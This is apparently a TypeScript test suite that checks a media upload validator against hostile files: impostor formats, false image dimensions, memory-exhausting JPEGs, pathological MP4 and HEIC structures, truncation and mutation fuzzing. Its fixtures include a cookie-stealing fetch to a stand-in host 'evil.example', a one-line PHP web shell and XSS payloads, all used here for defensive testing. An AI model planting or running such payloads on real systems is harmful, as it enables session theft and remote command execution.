import sharp from 'sharp';
import { mediaDefaults } from '../../src/media/media-defaults.js';
import type { SupportedMime } from '../../src/media/file-types.js';
import { demoSample, fixture, MediaHarness, mimes, residentMb } from '../support/media/media-harness.js';
import { box, tileOf, u32, writeHeif } from '../support/media/heif-writer.js';
import { mutate } from '../support/media/mutations.js';
import { gradient, pngClaiming } from '../support/media/picture-files.js';

const MUTATIONS = Number(process.env.MUTATIONS ?? 60);

describe('hostile files', () => {
  const media = new MediaHarness();
  const genuine = new Map<SupportedMime, Buffer>();
  const genuineOf = (mime: SupportedMime): Buffer => genuine.get(mime) ?? Buffer.alloc(0);

  beforeAll(async () => {
    genuine.set('image/jpeg', await gradient(240, 160).jpeg().withMetadata({ orientation: 6 }).toBuffer());
    genuine.set('image/png', await gradient(120, 80, 4).png().toBuffer());
    genuine.set('image/webp', await gradient(240, 160, 4).webp().toBuffer());
    genuine.set(
      'image/heic',
      writeHeif(tileOf(fixture('still.heic'), 128), { grid: { rows: 2, columns: 2 } }),
    );
    genuine.set('video/mp4', fixture('h264.mp4'));
  });
  afterAll(() => media.close());

  describe('with a false type', () => {
    const impostors: Record<string, Buffer> = {
      HTML: Buffer.from('<!doctype html><script>alert(1)</script>'),
      SVG: Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>',
      ),
      JavaScript: Buffer.from('fetch("//evil.example/" + document.cookie)'),
      PHP: Buffer.from('<?php system($_GET["c"]); ?>'),
      zip: Buffer.concat([Buffer.from('504b0304', 'hex'), Buffer.alloc(200)]),
      GIF: Buffer.from(
        '47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b',
        'hex',
      ),
      'an empty file': Buffer.alloc(0),
      'a single byte': Buffer.from([0xff]),
    };

    it.each(Object.entries(impostors))('%s is none of the five types', async (_name, bytes) => {
      for (const mime of mimes)
        expect([mime, await media.verdict(bytes, mime)]).toEqual([mime, 'content_mismatch']);
    });

    it.each(mimes)('%s is only accepted as itself', async (mime) => {
      for (const declared of mimes) {
        const expected = declared === mime ? 'facts' : 'content_mismatch';
        expect([declared, await media.verdict(genuineOf(mime), declared)]).toEqual([declared, expected]);
      }
    });
  });

  describe('with false dimensions', () => {
    it('rejects a PNG of 60,000 × 60,000 by its header', async () => {
      await expect(media.inspect(pngClaiming(60_000, 60_000, 10), 'image/png')).rejects.toMatchObject({
        code: 'media_invalid',
        message: expect.stringContaining('100 megapixels'),
      });
    });

    it('rejects a PNG with fewer rows than declared, accepts one with more', async () => {
      expect(await media.verdict(pngClaiming(2_000, 2_000, 1_999), 'image/png')).toBe('media_invalid');
      expect(await media.verdict(pngClaiming(2_000, 2_000, 4_000), 'image/png')).toBe('facts');
    });

    it('decodes a PNG at the very limit in bounded memory', async () => {
      expect(await media.verdict(pngClaiming(10_000, 10_000, 10_000), 'image/png')).toBe('facts');
      for (const pid of media.pool.pids()) expect(residentMb(pid) ?? 0).toBeLessThan(400);
    });

    it('rejects a JPEG whose header was enlarged', async () => {
      const jpeg = Buffer.from(await gradient(64, 64).jpeg().toBuffer());
      const frame = jpeg.indexOf(Buffer.from('ffc0', 'hex'));
      for (const side of [65_500, 9_000, 65]) {
        jpeg.writeUInt16BE(side, frame + 5);
        jpeg.writeUInt16BE(side, frame + 7);
        expect(await media.verdict(jpeg, 'image/jpeg')).toBe('media_invalid');
      }
    });

    it('rejects a HEIC whose header does not match its tile', async () => {
      const tile = tileOf(fixture('still.heic'), 128);
      for (const side of [9_999, 60_000, 0]) {
        expect(
          await media.verdict(writeHeif(tile, { claim: { width: side, height: side } }), 'image/heic'),
        ).toBe('media_invalid');
      }
    });

    it('kills a child above its memory limit, blames the file, and continues', async () => {
      const tight = new MediaHarness({ memoryLimitBytes: 190 * 1024 * 1024 });
      // Progressive: all coefficients are in memory together, about 150 MB.
      const greedy = await sharp({ create: { width: 5_000, height: 5_000, channels: 3, background: '#58a' } })
        .jpeg({ progressive: true, chromaSubsampling: '4:4:4' })
        .toBuffer();
      await expect(tight.inspect(greedy, 'image/jpeg')).rejects.toMatchObject({
        code: 'media_invalid',
        message: expect.stringContaining('memory'),
      });
      expect(await tight.verdict(genuineOf('image/jpeg'), 'image/jpeg')).toBe('facts');
      await tight.close();
    });

    it('rejects an MP4 whose index is beyond the limit without reading it', async () => {
      const small = new MediaHarness({ limits: { ...mediaDefaults.limits, maxMoovBytes: 500 } });
      expect(await small.verdict(fixture('h264.mp4'), 'video/mp4')).toBe('media_invalid');
      await small.close();
    });
  });

  describe('that take forever to parse', () => {
    const ftyp = fixture('h264.mp4').subarray(0, 32);
    const mp4 = (...boxes: Buffer[]) => Buffer.concat([ftyp, ...boxes]);

    it.each([
      ['a million tiny boxes', mp4(Buffer.alloc(8_000_000, box('free')))],
      [
        'a box of size zero',
        mp4(Buffer.concat([u32(0), Buffer.from('free')]), fixture('h264.mp4').subarray(32)),
      ],
      ['a box of size two', mp4(Buffer.concat([u32(2), Buffer.from('moov')]))],
      ['a 64-bit size of zero', mp4(Buffer.concat([u32(1), Buffer.from('moov'), Buffer.alloc(8)]))],
      [
        'boxes in boxes',
        mp4(Array.from({ length: 5_000 }).reduce<Buffer>((inner) => box('moov', inner), Buffer.alloc(0))),
      ],
      [
        'an endless list of tracks',
        mp4(box('moov', ...Array.from({ length: 50_000 }, () => box('trak', box('mdia'))))),
      ],
    ])('%s', async (_name, bytes) => {
      const started = Date.now();
      expect(await media.verdict(bytes, 'video/mp4')).toBe('media_invalid');
      expect(Date.now() - started).toBeLessThan(10_000);
    });

    it('a HEIC grid that contains itself', async () => {
      const grid = writeHeif(tileOf(fixture('still.heic'), 128), { grid: { rows: 1, columns: 2 } });
      const reference = grid.indexOf('dimg') + 4;
      // dimg: from item 3, two inputs; both now point back to item 3.
      grid.writeUInt16BE(3, reference + 4);
      grid.writeUInt16BE(3, reference + 6);
      expect(await media.verdict(grid, 'image/heic')).not.toBe('facts');
    });
  });

  it.each(mimes)('%s is never accepted when truncated', async (mime) => {
    const bytes = genuineOf(mime);
    const cuts = [
      4,
      20,
      100,
      ...[0.2, 0.4, 0.6, 0.8, 0.95].map((part) => Math.floor(bytes.length * part)),
      bytes.length - 13,
    ];
    for (const cut of cuts) {
      expect([cut, await media.verdict(bytes.subarray(0, cut), mime)]).toEqual([
        cut,
        expect.stringMatching(/media_invalid|content_mismatch/),
      ]);
    }
  });

  it.each(mimes)(
    `%s survives ${MUTATIONS} mutations`,
    async (mime) => {
      const verdicts = new Set<string>();
      for (let seed = 1; seed <= MUTATIONS; seed += 1)
        verdicts.add(await media.verdict(mutate(genuineOf(mime), seed), mime));
      expect(['facts', 'media_invalid', 'content_mismatch']).toEqual(expect.arrayContaining([...verdicts]));
      expect(verdicts.size).toBeGreaterThan(1);
    },
    60_000 + MUTATIONS * 1_000,
  );

  it('leaves children small and able to work', async () => {
    for (const name of ['storefront.jpg', 'emblem.png', 'latte.webp', 'wheat-field.heic', 'steam.mp4']) {
      const mime =
        mimes[['jpg', 'png', 'webp', 'heic', 'mp4'].indexOf(name.split('.')[1] ?? '')] ?? 'image/jpeg';
      expect(await media.verdict(demoSample(name), mime)).toBe('facts');
    }
    expect(media.pool.pids().length).toBeLessThanOrEqual(mediaDefaults.decoders / 2);
    for (const pid of media.pool.pids()) expect(residentMb(pid) ?? 0).toBeLessThan(300);
  });
});
